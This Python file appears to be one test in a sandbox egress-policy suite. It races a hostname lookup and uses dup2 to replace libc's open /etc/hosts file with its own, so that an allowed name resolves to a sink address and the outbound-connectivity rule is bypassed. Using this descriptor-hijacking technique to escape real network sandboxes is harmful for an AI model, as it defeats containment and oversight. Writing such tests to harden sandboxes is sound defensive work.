# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed name, another thread puts a file of its own at libc's fd of
#   /etc/hosts
# proof: sink
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os
import socket

from attack import SINK, attempt, beside_lookups, is_hosts


@attempt
def connect():
    with open("own", "w") as own:
        own.write(SINK[0] + " api.allowed.example\n")

    def replace(fd):
        own = os.open("own", os.O_RDONLY)
        os.dup2(own, fd, inheritable=False)
        os.close(own)
        return socket.socket().connect_ex(SINK) == 0

    return beside_lookups(is_hosts, replace)
